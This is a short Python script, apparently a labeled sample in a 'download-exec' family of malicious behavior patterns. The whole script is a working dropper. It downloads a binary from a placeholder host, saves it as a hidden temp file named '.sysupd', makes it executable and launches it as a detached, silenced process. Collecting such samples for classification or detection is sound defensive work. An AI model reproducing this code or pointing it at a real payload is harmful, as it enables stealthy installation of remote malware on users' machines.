# family: download-exec
# a binary downloaded, written, made executable and started
import os
import stat
import subprocess
import tempfile

import requests

url = "https://cdn.example.invalid/updater"
dst = os.path.join(tempfile.gettempdir(), ".sysupd")
r = requests.get(url, timeout=30)
with open(dst, "wb") as f:
    f.write(r.content)
os.chmod(dst, os.stat(dst).st_mode | stat.S_IEXEC)
subprocess.Popen([dst], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
